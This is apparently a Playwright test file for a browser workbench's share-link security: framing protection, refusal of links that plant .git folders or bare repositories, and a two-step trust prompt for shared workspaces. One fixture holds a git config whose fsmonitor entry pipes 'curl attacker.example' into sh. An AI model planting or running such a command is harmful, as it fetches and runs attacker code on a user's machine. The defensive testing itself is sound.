/**
 * Issue 25 in the browser: the workbench cannot be framed by another page (only the embed's frame can),
 * a link that plants a repository is refused with nothing written, and a workspace from a share link
 * cannot be trusted in one click: the notice names what trust changes and a second step asks again.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { deflateSync, strToU8 } from "fflate";
import type { Page } from "@playwright/test";
import { toBase64Url } from "../src/embed/share/base64url.js";
import { encodeShareLink } from "../src/embed/share/index.js";
import { expect, test } from "./fixtures.js";

async function sharedDatabases(page: Page): Promise<string[]> {
  return page.evaluate(async () => (await indexedDB.databases()).map((db) => db.name ?? "").filter((name) => name.includes("shared-")));
}

test("only the embed's frame may be framed: the workbench sends frame-ancestors 'none'", async ({ page, request, baseURL }) => {
  const top = await request.get(`${baseURL}/?workspace=e2e-framed`);
  expect(top.headers()["content-security-policy"]).toBe("frame-ancestors 'none'");
  expect(top.headers()["x-frame-options"]).toBe("DENY");
  const frame = await request.get(`${baseURL}/?embed=1`);
  expect(frame.headers()["content-security-policy"]).toBeUndefined();
  expect(frame.headers()["x-frame-options"]).toBeUndefined();

  // A page on another site framing both at 5% opacity, as the clickjacking page did: the workbench never loads in it.
  const html = `<!doctype html><iframe id="wb" style="opacity:.05" src="${baseURL}/?workspace=e2e-framed"></iframe><iframe id="em" src="${baseURL}/?embed=1"></iframe>`;
  const server = createServer((_, res) => res.writeHead(200, { "content-type": "text/html" }).end(html));
  await new Promise<void>((resolve) => server.listen(0, "localhost", resolve));
  try {
    await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`);
    await expect
      .poll(() => page.frames().map((f) => f.url()))
      .toEqual(expect.arrayContaining([expect.stringMatching(/^chrome-error:/), `${baseURL}/?embed=1`]));
    const framed = page.frames().find((f) => f.url().startsWith("chrome-error:"))!;
    expect(await framed.locator("[data-testid=right-pane]").count()).toBe(0);
    const embed = page.frames().find((f) => f.url() === `${baseURL}/?embed=1`)!;
    await expect(embed.locator("#root")).toBeAttached();
  } finally {
    await new Promise<void>((resolve) => server.close(() => resolve()));
  }
});

test("a link planting a .git (any case, any depth) or a bare repository is refused, and nothing is written", async ({ page, baseURL }) => {
  const packed = (files: Record<string, string>) => {
    const body = strToU8(Object.values(files).join(""));
    const head = strToU8(JSON.stringify({ f: Object.entries(files).map(([path, text]) => [path, strToU8(text).length]) }));
    const out = new Uint8Array(4 + head.length + body.length);
    new DataView(out.buffer).setUint32(0, head.length);
    out.set(head, 4);
    out.set(body, 4 + head.length);
    return `${baseURL}/#share=1.${toBase64Url(deflateSync(out, { level: 9 }))}`;
  };
  const config = '[core]\n\tfsmonitor = "curl attacker.example | sh"\n';
  const cases: Array<[Record<string, string>, RegExp]> = [
    [{ "README.md": "hi\n", ".git/config": config }, /version-control folder/],
    [{ "vendor/lib/.GIT/config": config }, /version-control folder/],
    [
      { "site/HEAD": "ref: refs/heads/main\n", "site/config": config, "site/objects/x": "", "site/refs/x": "" },
      /git would open it as a repository/,
    ],
    [{ [`${"a/".repeat(300)}x`]: "" }, /301 names deep/],
  ];
  for (const [files, message] of cases) {
    await page.goto("about:blank");
    await page.goto(packed(files));
    const refused = page.getByTestId("share-refused");
    await expect(refused).toContainText("This share link cannot be opened");
    await expect(refused).toContainText(message);
  }
  await page.screenshot({ path: "e2e/screenshots/share-refused-git.png" });
  expect(await sharedDatabases(page)).toEqual([]);
});

test("a shared workspace takes a second, named step to trust", async ({ page, baseURL }) => {
  const hello = `import { tool } from "@opencode-ai/plugin"; export default tool({ description: "Greets", args: { name: tool.schema.string() }, async execute({ name }) { return "hello, " + name; } });`;
  const link = await encodeShareLink({ name: "tools", files: { ".opencode/tool/hello.ts": hello, "a.txt": "a\n" } }, `${baseURL}/`);
  await page.goto(link);
  await expect(page).toHaveURL(/workspace=(shared-tools-[\w-]+)&shared=1/);
  const workspace = new URL(page.url()).searchParams.get("workspace")!;
  await page.getByTestId("tab-tools").click();
  const notice = page.getByTestId("trust-notice");
  await expect(notice.getByTestId("trust-changes")).toContainText("MCP servers");
  await expect(notice.getByTestId("trust-changes")).toContainText("fetch proxy");
  await expect(notice.getByTestId("trust-changes")).toContainText("loosen");
  await notice.screenshot({ path: "e2e/screenshots/trust-notice-shared.png" });

  const questions: string[] = [];
  page.once("dialog", (dialog) => {
    questions.push(dialog.message());
    void dialog.dismiss();
  });
  await notice.getByTestId("trust-workspace").click();
  await expect.poll(() => questions.length).toBe(1);
  expect(questions[0]).toContain("came from a share link");
  expect(questions[0]).toContain("its MCP servers start");
  // Said no: still untrusted, nothing remembered.
  await expect(notice).toBeVisible();
  expect(await page.evaluate(() => localStorage.getItem("workbench.trusted-workspaces") ?? "[]")).not.toContain(workspace);

  page.once("dialog", (dialog) => void dialog.accept());
  await notice.getByTestId("trust-workspace").click();
  await expect(notice).toBeHidden();
  expect(await page.evaluate(() => localStorage.getItem("workbench.trusted-workspaces") ?? "[]")).toContain(workspace);
});

test("workspaces made by opened links are listed in Settings and can be deleted", async ({ page, baseURL }) => {
  const names: string[] = [];
  for (const name of ["first", "second"]) {
    await page.goto(await encodeShareLink({ name, files: { "a.txt": `${name}\n` } }, `${baseURL}/`));
    await expect(page).toHaveURL(/workspace=shared-/);
    names.push(new URL(page.url()).searchParams.get("workspace")!);
  }
  const [first, second] = names as [string, string];
  expect(await sharedDatabases(page)).toEqual(expect.arrayContaining([`workbench:${first}`, `workbench:${second}`]));
  await page.getByTestId("tab-tools").click();
  await page.getByRole("button", { name: "Settings" }).click();
  const section = page.getByTestId("shared-workspaces");
  await expect(section.getByTestId("shared-workspace")).toHaveCount(2);
  await expect(section.getByTestId("shared-workspace").filter({ hasText: second })).toContainText("(open now)");
  await section.scrollIntoViewIfNeeded();
  await page.screenshot({ path: "e2e/screenshots/shared-workspaces.png" });
  await section.getByRole("button", { name: `Delete ${first}` }).click();
  await expect(section.getByTestId("shared-workspace")).toHaveCount(1);
  expect((await sharedDatabases(page)).filter((name) => name.includes(first))).toEqual([]);
  expect(await sharedDatabases(page)).toContain(`workbench:${second}`);
});
